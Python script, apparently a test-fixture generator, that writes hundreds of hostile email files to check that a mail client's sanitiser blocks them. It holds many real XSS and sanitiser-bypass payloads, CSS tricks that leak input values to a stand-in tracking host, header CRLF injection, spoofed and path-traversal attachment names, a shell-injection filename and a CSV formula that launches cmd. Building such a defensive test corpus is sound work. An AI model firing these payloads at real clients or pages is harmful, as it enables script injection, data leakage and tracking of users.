#!/usr/bin/env python3
"""Writes the hostile mails of this folder: one .eml for each trick, in a folder for each kind.

What would run sets window.pwned or calls alert; what would phone out asks the host tracker.invalid. A test opens
each mail in the browser and sees neither. Run it again after a change: it removes and writes all of them.
"""
import base64
import pathlib
import shutil

HERE = pathlib.Path(__file__).parent
RUN = "window.pwned=1;alert(1)"
T = "https://tracker.invalid"
count = 0


def write(kind, name, mail):
    global count
    count += 1
    folder = HERE / kind
    folder.mkdir(exist_ok=True)
    data = mail if isinstance(mail, bytes) else mail.replace("\n", "\r\n").encode("utf-8", "surrogateescape")
    (folder / f"{name}.eml").write_bytes(data)


def header(kind, name, extra="", sender='"Hostile" <sender@outside.example>', subject=None):
    return (f"From: {sender}\nTo: taro@aoba.example\nSubject: {subject or f'{kind} {name}'}\n"
            f"Date: Tue, 24 Nov 2026 15:32:09 +0900\nMessage-ID: <{kind}.{name}@outside.example>\n{extra}MIME-Version: 1.0\n")


def html(kind, name, body, charset="utf-8", **more):
    write(kind, name, header(kind, name, **more) + f"Content-Type: text/html; charset={charset}\n\n{body}\n")


def numbered(kind, prefix, bodies):
    for at, body in enumerate(bodies, 1):
        html(kind, f"{prefix}-{at:02}", body)


def attached(kind, name, fields, content, body="text"):
    data = content if isinstance(content, bytes) else content.encode()
    encoded = base64.encodebytes(data).decode()
    write(kind, name, header(kind, name) + "Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain; "
          f"charset=utf-8\n\n{body}\n--b\n{fields}\nContent-Transfer-Encoding: base64\n\n{encoded}--b--\n")


def elements():
    numbered("html", "script", [
        f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script src={T}/x.js></script>", f"<script\n>{RUN}</script\n>",
        f"<script/x>{RUN}</script>", f"<<script>{RUN}//<</script>", f"<script>{RUN}", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<script type=module>import '{T}/m.js'</script>", f"<script type=text/vbscript>{RUN}</script>",
        f"<script>/*<!--*/<script>{RUN}</script>", f"<script\0>{RUN}</script>", f"<\0script>{RUN}</script>",
        f"<html><head><script>{RUN}</script></head><body>x</body></html>", f"</body><script>{RUN}</script>",
        f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">", f"<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"{T}/s\"]}}]}}</script>",
        f"<script type=importmap>{{\"imports\":{{\"a\":\"{T}/a\"}}}}</script>",
    ])
    events = ("onload onerror onclick onmouseover onfocus onblur onanimationstart ontransitionend onpointerrawupdate onwheel onscroll "
              "onbeforeinput onpageshow onhashchange onmessage ontoggle onbegin onbeforetoggle onresize onsearch onauxclick oncopy").split()
    for event in events:
        html("html", f"event-{event}", f"<body {event}=\"{RUN}\"><img src=x {event}='{RUN}'><div {event.upper()}={RUN} tabindex=0 autofocus contenteditable>x</div>")
    numbered("html", "handler", [
        f"<img src=x onerror={RUN}>", f"<img/src=x/onerror={RUN}>", f"<img src=\"x\"onerror=\"{RUN}\">", f"<img\tsrc=x\nonerror\n=\n{RUN}>",
        f"<img src=x one&#114;ror={RUN}>", f"<img src=x onerror\0={RUN}>", f"<img src=`x`onerror={RUN}>", f"<img \"\"\"><script>{RUN}</script>\">",
        f"<img src=x:x onerror=&#x77;indow.pwned=1>", f"<body onload={RUN}>", f"<body/onload={RUN}>", f"<body x=\">\" onload={RUN}>",
        f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}></textarea>",
        f"<keygen autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>x</details>", f"<marquee onstart={RUN}>x</marquee>",
        f"<video src=x onerror={RUN}></video>", f"<audio src=x onerror={RUN}></audio>", f"<video><source onerror={RUN}></video>",
        f"<object data=x onerror={RUN}></object>", f"<isindex type=image src=x onerror={RUN}>", f"<image src=x onerror={RUN}>",
        f"<dialog open onclose={RUN}><form method=dialog><button autofocus>x</button></form></dialog>", f"<a href=x onclick={RUN} style=display:block>x</a>",
        f"<p title='><img src=x onerror={RUN}>'>x</p>", f"<p title=\"--><img src=x onerror={RUN}>\">x</p>", f"<img alt='<x' src=x onerror={RUN} title='>'>",
    ])
    numbered("html", "mutation", [
        f"<noscript><style></noscript><img src=x onerror={RUN}></style>", f"<title><a title=\"</title><img src=x onerror={RUN}>\"></title>",
        f"<textarea><img title=\"</textarea><img src=x onerror={RUN}>\"></textarea>", f"<xmp><img title=\"</xmp><img src=x onerror={RUN}>\"></xmp>",
        f"<style><a title=\"</style><img src=x onerror={RUN}>\">", f"<iframe><a title=\"</iframe><img src=x onerror={RUN}>\">",
        f"<noembed><img title=\"</noembed><img src=x onerror={RUN}>\">", f"<noframes><img title=\"</noframes><img src=x onerror={RUN}>\">",
        f"<plaintext><img src=x onerror={RUN}>", f"<template><img src=x onerror={RUN}></template>",
        f"<template shadowrootmode=open><script>{RUN}</script></template>", f"<select><template><style></select><img src=x onerror={RUN}></style></template></select>",
        f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>", f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">",
        f"<svg></p><style><a title=\"</style><img src=x onerror={RUN}>\">", f"<svg><style><img src=x onerror={RUN}></style></svg>",
        f"<svg><title><style><img src=x onerror={RUN}></style></title></svg>", f"<svg><desc><noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></desc></svg>",
        f"<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror={RUN}></style></annotation-xml></math>",
        f"<math><annotation-xml><foreignobject><style><!--</style><p title=\"--><img src=x onerror={RUN}>\"></math>",
        f"<svg><foreignObject><style><!--</style><img title=\"--><img src=x onerror={RUN}>\"></foreignObject></svg>",
        f"<table><a><table><a></table><img src=x onerror={RUN}>", f"<a><table><tr><a href=javascript:{RUN}>x</a></table></a>",
        f"<p><table><td><p></table><script>{RUN}</script>", f"<b><p><b><p></b><img src=x onerror={RUN}>", f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
        f"<p id=\"`><img src=x onerror={RUN}>\">x</p>", f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>", f"<![CDATA[<img src=x onerror={RUN}>]]>",
        f"<math><mi><style><math></style><img src=x onerror={RUN}>", f"<svg><p><style><g title=\"</style><img src=x onerror={RUN}>\">",
        f"<form id=f></form><div><form><svg></form><style></svg><img src=x onerror={RUN}>", f"<select><option><svg><style></select><img src=x onerror={RUN}>",
        f"<ruby><rp><svg><rt><style></ruby><img src=x onerror={RUN}>", f"<nobr><a><nobr></a><img src=x onerror={RUN}></nobr>",
        f"<div><template><div></template><svg><template></svg><script>{RUN}</script>",
    ])
    numbered("html", "comment", [
        f"<!--><img src=x onerror={RUN}>-->", f"<!---><img src=x onerror={RUN}>-->", f"<!-- --!><img src=x onerror={RUN}> -->",
        f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->", f"<!--[if !mso]><!--><img src=x onerror={RUN}><!--<![endif]-->",
        f"<![if !vml]><img src={T}/vml.png><![endif]>", f"<!doctype html [<!ENTITY x '<script>{RUN}</script>'>]>&x;", f"<?xml version='1.0'?><?import namespace='t' implementation='{T}'?>x",
        f"<!-- <!-- --><script>{RUN}</script> -->", f"<!DOCTYPE x\"><img src=x onerror={RUN}>\">", f"<? foo=\"><script>{RUN}</script>\">", f"</ foo=\"><script>{RUN}</script>\">",
        f"<% foo><x foo=\"%><script>{RUN}</script>\">", f"<!-- ` --><!-- <img src=x onerror={RUN}>--> x",
    ])
    numbered("html", "embed", [
        f"<iframe src={T}/></iframe>", f"<iframe srcdoc=\"<script>{RUN}</script>\"></iframe>", f"<iframe src=javascript:{RUN}></iframe>",
        f"<frameset><frame src={T}/></frameset>", f"<object data={T}/x></object>", f"<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
        f"<object type=text/html><param name=src value={T}></object>", f"<embed src={T}/x.swf allowscriptaccess=always>", f"<applet code=x archive={T}/x.jar></applet>",
        f"<portal src={T}/></portal>", f"<fencedframe src={T}/></fencedframe>", f"<video poster={T}/p.png src={T}/v.mp4 autoplay></video>",
        f"<audio src={T}/a.mp3 autoplay></audio>", f"<video><track src={T}/t.vtt default></video>", f"<picture><source srcset={T}/s.png><img src=x></picture>",
        f"<img srcset='{T}/1x.png 1x, {T}/2x.png 2x'>", f"<img src={T}/pixel.gif width=1 height=1>", f"<img src=//tracker.invalid/p.gif>", f"<img src=http:tracker.invalid/p.gif>",
        f"<img src=\\\\tracker.invalid\\p.gif>", f"<img lowsrc={T}/l.gif dynsrc={T}/d.gif>", f"<img longdesc={T}/l usemap=#m><map name=m><area href=javascript:{RUN} shape=default></map>",
        f"<body background={T}/b.png>x", f"<table background={T}/t.png><tr background={T}/r.png><td background={T}/d.png>x</table>", f"<input type=image src={T}/i.png>",
        f"<bgsound src={T}/b.mid>", f"<xml src={T}/x.xml id=x></xml>", f"<canvas onload={RUN}></canvas>", f"<img src=x longdesc=javascript:{RUN}>", f"<img loading=eager fetchpriority=high src={T}/e.png>",
    ])
    numbered("html", "document", [
        f"<meta http-equiv=refresh content='0;url={T}/'>", f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>", f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{RUN}</script>'>",
        f"<meta http-equiv=Set-Cookie content='a=b'>", f"<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>{RUN}</script>",
        f"<meta http-equiv=Link content='<{T}/x.css>; rel=stylesheet'>", f"<meta name=referrer content=unsafe-url><img src={T}/r.gif>", f"<meta charset=utf-7>+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
        f"<base href={T}/><a href=/x>x</a><img src=/y>", f"<base target=_top><a href={T}/>x</a>", f"<link rel=stylesheet href={T}/s.css>", f"<link rel=dns-prefetch href=//tracker.invalid>",
        f"<link rel=preconnect href={T}>", f"<link rel=preload as=image href={T}/p.png>", f"<link rel=prefetch href={T}/>", f"<link rel=prerender href={T}/>", f"<link rel=modulepreload href={T}/m.js>",
        f"<link rel=icon href={T}/i.ico>", f"<link rel=manifest href={T}/m.json>", f"<link rel=import href={T}/i.html>", f"<link rel=pingback href={T}/>", f"<link rel=stylesheet href=\"data:text/css,@import '{T}'\">",
        f"<html manifest={T}/m.appcache>x", f"<head profile={T}/p>x</head>",
    ])
    numbered("html", "form", [
        f"<form action={T}/><input name=password type=password><button>Sign in</button></form>", f"<form action=javascript:{RUN}><input type=submit></form>",
        f"<button formaction=javascript:{RUN}>x</button>", f"<form id=f></form><button form=f formaction={T}/>x</button>", f"<input type=hidden name=csrf value=x form=f>",
        f"<form action={T}/ autofocus onformdata={RUN}><input type=image src={T}/b.png></form>", f"<isindex action={T} prompt=x>", f"<textarea name=x form=f dirname=y>secret</textarea>",
        f"<form method=dialog><button value=x>x</button></form>", f"<input list=d><datalist id=d><option value=x>{RUN}</datalist>",
        f"<button popovertarget=p>x</button><div popover id=p onbeforetoggle={RUN}>y</div>", f"<form action={T}/><select name=a><option selected>b</select></form>",
    ])
    numbered("html", "clobber", [
        "<img name=cookie><img name=body><a id=pwned href=x>", "<form name=getElementById><input name=attributes></form>", "<a id=x><a id=x name=y href=//tracker.invalid>",
        "<p class=toast id=toast data-swap=/logout>x</p>", "<a href=/mail data-swap data-oob id=cnt-inbox>x</a>", "<iframe name=self></iframe><slot name=x>y</slot>",
        "<p is=x-evil>x</p>", "<x-evil onconnected=alert(1)>x</x-evil>", "<p slot=a part=b exportparts=c nonce=d itemscope itemtype=//tracker.invalid>x</p>",
    ])
    numbered("html", "deep", [
        "<div>" * 3000 + "x", "<table><tr><td>" * 500 + "x", "<b>" * 4000 + "x" + "<p>y" * 100, "<svg>" * 2000, "<a>" * 3000, "<font size=1 color=red>" * 1500 + "<p>x" * 300,
        "<p " + " ".join(f"a{i}=1" for i in range(5000)) + ">x", f"<p title=\"{'x' * 200000}\">y", "&lt;" * 30000, "<" * 50000, "<ul><li>" * 700, "<blockquote>" * 900 + "x", "<!--" * 9000,
    ])


def styles():
    numbered("css", "sheet", [
        f"<style>@import '{T}/i.css';</style>", f"<style>body{{background:url({T}/b.png)}}</style>", f"<style>@font-face{{font-family:x;src:url({T}/f.woff)}}p{{font-family:x}}</style><p>x",
        f"<style>input[value^=a]{{background:url({T}/a)}}</style><input value=abc>", f"<style>*{{position:fixed;inset:0;z-index:2147483647}}</style>", f"<style></style><style>@import url({T})</style>",
        f"<style><!--</style><img src=x onerror={RUN}>--></style>", f"<style type=text/css media='all' onload={RUN}>p{{}}</style>", f"<svg><style>@import '{T}';</style></svg>", f"<style>@namespace url({T});@page{{background:url({T})}}</style>",
        f"<style>p::before{{content:url({T}/c.png)}}</style><p>x", f"<style>@property --x{{syntax:'<url>';initial-value:url({T});inherits:true}}p{{background:var(--x)}}</style><p>x",
    ])
    values = [
        f"background:url({T}/1.png)", f"background:URL('{T}/2.png')", f"background:u\\72l({T}/3.png)", f"background:\\75\\72\\6c({T}/4.png)", f"background:u/**/rl({T}/5.png)",
        f"background-image:url(//tracker.invalid/6.png)", f"background:image-set('{T}/7.png' 1x)", f"background:-webkit-image-set(url({T}/8.png) 1x)", f"background:cross-fade(url({T}/9.png),red)",
        f"list-style:url({T}/10.png)", f"list-style-image:url({T}/11.png)", f"cursor:url({T}/12.cur),auto", f"content:url({T}/13.png)", f"border-image:url({T}/14.png) 1", f"filter:url({T}/15.svg#f)",
        f"mask:url({T}/16.svg)", f"clip-path:url({T}/17.svg#c)", f"shape-outside:url({T}/18.png)", f"-webkit-mask-box-image:url({T}/19.png)", f"width:expression({RUN})", f"width:exp/**/ression({RUN})",
        f"width:e\\78pression({RUN})", f"behavior:url({T}/x.htc)", f"-moz-binding:url({T}/x.xml#x)", f"background:url(javascript:{RUN})", f"background:url(data:image/svg+xml,&lt;svg onload={RUN}&gt;)",
        f"--x:url({T}/20.png);background:var(--x)", f"background:env(x,url({T}/21.png))", f"background:attr(title url)", "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:white",
        "position:sticky;top:0", "position:absolute;top:-9999px", "position:FiXeD", "pos\\69tion:fixed", "transform:scale(100)", "margin:-9999px", "all:initial;position:fixed", "display:contents;appearance:none",
        f"color:red;}}</style><script>{RUN}</script>", f"color:red&quot;&gt;&lt;script&gt;{RUN}&lt;/script&gt;", f"font-family:'x';background:url({T}/22.png)", f"font-family:'\\'';background:url({T}/23.png)", f"font-family:x\n;background:url({T}/24.png)",
        f"color:red;/*;background:url({T}/25.png)*/", f"color:red;background:/**/url({T}/26.png)", f"background:url(  '{T}/27.png'  )", f"background:\0url({T}/28.png)", f"@import url({T}/29.css);color:red", f"color:red!important;background:url({T}/30.png)!important",
        f"background:src('{T}/31.png')", f"background:paint(x)", f"background:element(#x)", f"animation:x 1s;animation-name:x", f"view-transition-name:x;anchor-name:--x", "width:99999999999999999999px;font-size:1e99px", "opacity:0;font-size:0;line-height:0;color:transparent",
        "unicode-bidi:bidi-override;direction:rtl", f"background:url(cid:x) url({T}/32.png)", f"background:rgb(url({T}/33.png))", "color:rgb(1,2,3);color:calc(1px + var(--x))",
    ]
    for at, value in enumerate(values, 1):
        quoted = value.replace("\"", "&quot;")
        html("css", f"value-{at:02}", f"<div style=\"{quoted}\">x</div><td style=\"{quoted}\">y")


def drawings():
    numbered("svg", "svg", [
        f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><script xlink:href={T}/x.js></script></svg>", f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
        f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=20>x</text></a></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><set attributeName=href to=javascript:{RUN}>", f"<svg><image href={T}/i.png></svg>",
        f"<svg><image xlink:href={T}/i.png></svg>", f"<svg><use href={T}/u.svg#x></svg>", f"<svg><use href=\"data:image/svg+xml,<svg id='x'><script>{RUN}</script></svg>#x\"></svg>", f"<svg><foreignObject><iframe src={T}></iframe></foreignObject></svg>",
        f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>", f"<svg><feImage href={T}/f.png></svg>", f"<svg><filter><feImage xlink:href={T}/f.png /></filter></svg>", f"<svg><style>@import '{T}'</style></svg>", f"<svg><handler type=text/javascript ev:event=load>{RUN}</handler></svg>",
        f"<svg><discard onbegin={RUN}></svg>", f"<svg><title><img src=x onerror={RUN}></title></svg>", f"<svg><desc><script>{RUN}</script></desc></svg>", f"<svg><metadata><iframe srcdoc='<script>{RUN}</script>'></metadata></svg>", f"<svg xmlns:x=http://www.w3.org/1999/xhtml><x:script>{RUN}</x:script></svg>",
        f"<svg><mpath href={T}></svg>", f"<svg><cursor href={T}/c.png></svg>", f"<svg><textPath href={T}#x></svg>", f"<svg><font-face-uri href={T}/f></svg>", f"<svg fill=url({T}/g.svg#x)><rect width=9 height=9 fill=url({T}/h.svg#x)></svg>", f"<svg><p>x</svg><img src=x onerror={RUN}>", f"<svg><script href=data:,{RUN} /></svg>",
    ])
    numbered("mathml", "math", [
        f"<math href=javascript:{RUN}>x</math>", f"<math><mi href=javascript:{RUN}>x</mi></math>", f"<math><maction actiontype=statusline#{T} xlink:href=javascript:{RUN}>x</maction></math>", f"<math><mtext><script>{RUN}</script></mtext></math>",
        f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>", f"<math><annotation-xml encoding=application/xhtml+xml><script>{RUN}</script></annotation-xml></math>", f"<math><semantics><annotation src={T}/a></semantics></math>", f"<math><mglyph src={T}/g.png></math>",
        f"<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img src=x onerror={RUN}>\">", f"<math><mstyle background=url({T})>x</mstyle></math>", f"<math><ms><table><mglyph><style><img src=x onerror={RUN}>", f"<math display=block style=position:fixed><mspace width=9999em></math>", f"<math><malignmark></math><img src=x onerror={RUN}>", f"<math><xss style=behavior:url({T})>x</xss></math>",
    ])


def addresses():
    urls = [
        f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\nscript:{RUN}", f"java\tscript:{RUN}", f"java&#10;script:{RUN}", f"java&Tab;script:{RUN}", f"javascript&colon;{RUN}", f"&#106;avascript:{RUN}", f"&#x6A&#x61vascript:{RUN}", f"&#0000106avascript:{RUN}",
        f" \x01javascript:{RUN}", f"\x00javascript:{RUN}", f"java\x00script:{RUN}", f"javascript://tracker.invalid/%0a{RUN}", f"javascript:%61lert(1)", f"&NewLine;javascript:{RUN}", f"feed:javascript:{RUN}", f"view-source:javascript:{RUN}", f"view-source:{T}/", f"vbscript:msgbox(1)", f"livescript:{RUN}", f"mocha:{RUN}",
        f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", f"data:image/svg+xml,<svg onload={RUN}>", "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", f"data:image/png,<script>{RUN}</script>", f"data:image/png;base64,AAAA\"onerror={RUN} x=\"", "data:,x", "data:text/css,*{}", f"DATA:TEXT/HTML,<script>{RUN}</script>",
        f"blob:{T}/1234", "file:///etc/passwd", "file://tracker.invalid/share", "\\\\tracker.invalid\\share", "//tracker.invalid/x", "/\\tracker.invalid/x", "///tracker.invalid", "https:\\\\tracker.invalid\\x", "https:/tracker.invalid", "https:tracker.invalid", "ftp://tracker.invalid/x", "filesystem:https://tracker.invalid/x", "about:blank", "chrome://settings", "ms-word:ofe|u|https://tracker.invalid/x.docx",
        "search-ms:query=x&crumb=location:\\\\tracker.invalid", "tel:+81-3-0000-0000", "sms:+8190?body=x", "mailto:evil@tracker.invalid?bcc=x@tracker.invalid&body=%3Cscript%3E", f"mailto:a@b.example?subject=%0d%0aBcc:%20x@tracker.invalid", "https://aoba.example@tracker.invalid/", "https://aoba.example%2f@tracker.invalid/", "https://xn--80ak6aa92e.com/", "https://аpple.example/", "https://tracker.invalid#@aoba.example/",
        "https://[::1]/", "http://127.0.0.1:9090/metrics", "http://169.254.169.254/latest/meta-data", "?logout=1", "/logout", "#x", "../../logout", "javascript\u00ad:alert(1)", "jav\u200bascript:alert(1)", "ｊavascript:alert(1)", f"x:javascript:{RUN}", "ws://tracker.invalid/", "jar:https://tracker.invalid!/x", "resource://x", "intent://tracker.invalid#Intent;end", "urn:x", "magnet:?xt=x",
    ]
    for at, url in enumerate(urls, 1):
        quoted = url.replace("\"", "&quot;")
        html("url", f"url-{at:02}", f"<a href=\"{quoted}\">https://www.aoba.example/</a><img src=\"{quoted}\"><a ping={T}/ping target=_top href=\"{quoted}\" download>x</a>")


def headers():
    tag, img = f"<script>{RUN}</script>", f"<img src={T}/h.gif onerror={RUN}>"
    word = lambda text, charset="UTF-8": f"=?{charset}?B?{base64.b64encode(text.encode(charset, 'surrogateescape')).decode()}?="
    for name, subject in [
        ("subject-tag", tag), ("subject-image", img), ("subject-encoded-tag", word(tag)), ("subject-attribute", f"\" onmouseover={RUN} x=\""), ("subject-entity", "&lt;script&gt;alert(1)&lt;/script&gt;"), ("subject-template", "{{7*7}}${7*7}<%=7*7%>{% x %}"),
        ("subject-crlf", word("x\r\nBcc: spy@tracker.invalid\r\nContent-Type: text/html\r\n\r\n" + tag)), ("subject-bidi", word("支払\u202e gpj.exe\u202c \u2066x")), ("subject-nul", word("a\0b\x1b[31m\x07c")), ("subject-long", "x" * 900), ("subject-words", " ".join([word("長い件名" * 3)] * 60)),
        ("subject-broken", "=?UTF-8?B?PHNjcmlwdD4?= =?UTF-8?Q?=3Cscript?= =?x?B?"), ("subject-nested", word(word(tag))), ("subject-escape", "\x1b$B!<script>alert(1)</script>\x1b(B"), ("subject-zero-width", word("請\u200b求\u200d書\ufeff")), ("subject-separator", word("a\u2028b\u2029c\u0085d")), ("subject-combining", word("Z" + "\u0335\u0321\u0301" * 200)),
        ("subject-utf7", "=?UTF-7?Q?+ADw-script+AD4-alert(1)+ADw-/script+AD4-?="),
    ]:
        write("header", name, header("header", name, subject=subject) + f"Content-Type: text/plain; charset=utf-8\n\n{name}\n")
    for name, sender in [
        ("from-tag", f"\"{tag}\" <a@outside.example>"), ("from-encoded-tag", f"{word(img)} <a@outside.example>"), ("from-other-address", "\"taro@aoba.example\" <evil@tracker.invalid>"), ("from-other-angle", "\"taro <taro@aoba.example>\" <evil@tracker.invalid>"), ("from-colleague", f"{word('佐藤 健一')} <sato@tracker.invalid>"),
        ("from-bidi", f"{word('elpmaxe.aboa@oras' + chr(0x202e))} <evil@tracker.invalid>"), ("from-crlf", f"{word('x' + chr(13) + chr(10) + 'Bcc: y@tracker.invalid')} <a@outside.example>"), ("from-two", "a@outside.example, b@tracker.invalid"), ("from-none", ""), ("from-group", "Team: a@outside.example, b@outside.example;"), ("from-long", f"\"{'x' * 5000}\" <a@outside.example>"), ("from-quoted-local", f"\"{tag}\"@outside.example"),
        ("from-punycode", "info@xn--aba-5ib.example"), ("from-mixed-script", "info@аoba.example"), ("from-comment", f"a@outside.example ({tag})"), ("from-route", "<@tracker.invalid:a@outside.example>"), ("from-full-width", "info@ａｏｂａ.example"), ("from-attribute", f"\"\\\" onclick={RUN} x=\\\"\" <a@outside.example>"),
    ]:
        write("header", name, header("header", name, sender=sender) + f"Content-Type: text/plain; charset=utf-8\n\n{name}\n")
    for name, extra in [
        ("reply-to", "Reply-To: evil@tracker.invalid\n"), ("reply-to-tag", f"Reply-To: \"{tag}\" <evil@tracker.invalid>\n"), ("to-many", "Cc: " + ", ".join(f"p{i}@outside.example" for i in range(2000)) + "\n"), ("to-tag", f"Cc: \"{img}\" <x@outside.example>\n"), ("unsubscribe", f"List-Unsubscribe: <javascript:{RUN}>, <{T}/u>\nList-Unsubscribe-Post: List-Unsubscribe=One-Click\n"), ("list-id", f"List-Id: {tag} <x.outside.example>\n"),
        ("message-id", f"In-Reply-To: <{tag}@x>\nReferences: {' '.join(f'<{i}@x>' for i in range(3000))}\n"), ("receipt", "Disposition-Notification-To: evil@tracker.invalid\nReturn-Receipt-To: evil@tracker.invalid\n"), ("results", "Authentication-Results: mail.aoba.example; spf=pass; dkim=pass; dmarc=pass\n"), ("date", "Date: <script>alert(1)</script>\n"), ("x-mailer", f"X-Mailer: {img}\nOrganization: {tag}\n"), ("face", f"Face: x\nX-Image-URL: {T}/face.png\nBIMI-Selector: v=BIMI1\n"),
        ("link", f"Link: <{T}/x.css>; rel=stylesheet\nRefresh: 0;url={T}\nLocation: {T}\nSet-Cookie: a=b\n"), ("content-location", f"Content-Location: {T}/\nContent-Base: {T}/\n"), ("many", "".join(f"X-N{i}: {i}\n" for i in range(3000))), ("nul", "X-Nul: a\0b\n"), ("no-colon", "this is no header\n"), ("description", f"Content-Description: {tag}\n"), ("language", f"Content-Language: \"><script>{RUN}</script>\n"),
    ]:
        write("header", name, header("header", name, extra=extra) + f"Content-Type: text/plain; charset=utf-8\n\n{name}\n")


def names():
    tag = f"<img src=x onerror={RUN}>.txt"
    plain = [
        ("tag", tag), ("quote", "a\\\"; filename=evil.html; x=\\\".txt"), ("traversal", "../../../etc/passwd"), ("traversal-windows", "..\\..\\windows\\system.ini"), ("absolute", "/etc/cron.d/x"), ("drive", "C:\\autoexec.bat"), ("unc", "\\\\tracker.invalid\\share\\x.txt"), ("double", "invoice.pdf.exe"), ("double-html", "invoice.pdf.html"), ("spaces", "invoice.pdf" + " " * 150 + ".exe"),
        ("trailing-dot", "invoice.txt."), ("reserved", "CON.txt"), ("reserved-aux", "aux"), ("hidden", ".htaccess"), ("dots", "..."), ("empty", ""), ("blank", "   "), ("long", "x" * 5000 + ".txt"), ("percent", "%2e%2e%2fx.txt"), ("entity", "&lt;b&gt;.txt"), ("template", "{{7*7}}.txt"), ("colon", "a:b|c?d*e.txt"), ("stream", "x.txt::$DATA"), ("semicolon", "a;b=c.txt"), ("shell", "$(touch x)`id`;rm -rf.txt"), ("url", "https://tracker.invalid/x.txt"), ("lnk", "資料.txt.lnk"),
    ]
    for name, value in plain:
        attached("name", name, f"Content-Type: application/octet-stream; name=\"{value}\"\nContent-Disposition: attachment; filename=\"{value}\"", "content")
    encoded = [
        ("bidi", "請求書\u202efdp.exe"), ("bidi-isolate", "請求書\u2066fdp\u2069.exe"), ("zero-width", "請求\u200b書\ufeff.pdf"), ("crlf", "a\r\nSet-Cookie: x=y\r\n\r\n<script>alert(1)</script>.txt"), ("nul", "a.txt\0.exe"), ("control", "a\x1b[2J\x07.txt"), ("full-width-slash", "..／..／x.txt"), ("fraction-slash", "a\u2215b\u2044c.txt"), ("yen", "a¥b.txt"), ("emoji", "👩‍👩‍👧‍👦.txt"), ("combining", "か\u3099.txt"), ("tag-encoded", tag), ("surrogate-like", "\ufffd\uffff.txt"), ("separator", "a\u2028b.txt"), ("lookalike", "invoice․pdf"),
    ]
    for name, value in encoded:
        percent = "".join(f"%{b:02X}" for b in value.encode())
        attached("name", name, f"Content-Type: application/octet-stream\nContent-Disposition: attachment; filename*=UTF-8''{percent}", "content")
        word = base64.b64encode(value.encode()).decode()
        attached("name", f"{name}-word", f"Content-Type: application/octet-stream; name=\"=?UTF-8?B?{word}?=\"\nContent-Disposition: attachment", "content")


def types():
    page = f"<html><body><script>{RUN}</script><img src={T}/t.png></body></html>"
    drawing = f"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{RUN}\"><script>{RUN}</script></svg>"
    xml = f"<?xml version=\"1.0\"?><?xml-stylesheet href=\"{T}/x.xsl\" type=\"text/xsl\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"><script>{RUN}</script></html>"
    pdf = f"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n<script>{RUN}</script>"
    for name, kind, content in [
        ("html", "text/html", page), ("xhtml", "application/xhtml+xml", xml), ("svg", "image/svg+xml", drawing), ("xml", "text/xml", xml), ("app-xml", "application/xml", xml), ("xsl", "text/xsl", xml), ("js", "text/javascript", RUN), ("js-app", "application/javascript", RUN), ("css", "text/css", f"@import '{T}';"), ("pdf", "application/pdf", pdf), ("mht", "multipart/related", page), ("hta", "application/hta", page), ("flash", "application/x-shockwave-flash", "FWS"), ("shtml", "text/x-server-parsed-html", page),
        ("html-as-png", "image/png", page), ("html-as-text", "text/plain", page), ("html-as-pdf", "application/pdf", page), ("svg-as-png", "image/png", drawing), ("svg-as-jpeg", "image/jpeg", drawing), ("html-as-octets", "application/octet-stream", page), ("html-as-unknown", "x/y", page), ("html-as-nothing", "", page), ("html-as-wild", "*/*", page), ("html-as-two", "image/png, text/html", page), ("html-as-crlf", "image/png\n\ttext/html", page), ("html-in-gif", "image/gif", "GIF89a/*" + page), ("html-in-csv", "text/csv", f"=cmd|'/c calc'!A1\n{page}"), ("calendar", "text/calendar", f"BEGIN:VCALENDAR\nBEGIN:VEVENT\nSUMMARY:{page}\nURL:javascript:{RUN}\nATTACH:{T}\nEND:VEVENT\nEND:VCALENDAR"), ("vcard", "text/vcard", f"BEGIN:VCARD\nFN:{page}\nPHOTO;VALUE=uri:{T}/p.png\nURL:javascript:{RUN}\nEND:VCARD"), ("json", "application/json", page), ("partial", "message/partial; id=x; number=1; total=2", page), ("external", f"message/external-body; access-type=URL; URL=\"{T}\"", "Content-Type: text/html\n\n"),
    ]:
        for disposition in ["attachment", "inline"]:
            field = f"Content-Type: {kind}\n" if kind else ""
            attached("type", f"{name}-{disposition}", f"{field}Content-Disposition: {disposition}; filename=\"x.{name}\"\nContent-ID: <x@y>", content)


def multiparts():
    page = f"<script>{RUN}</script><img src={T}/m.gif><img src=cid:x><p>text</p>"
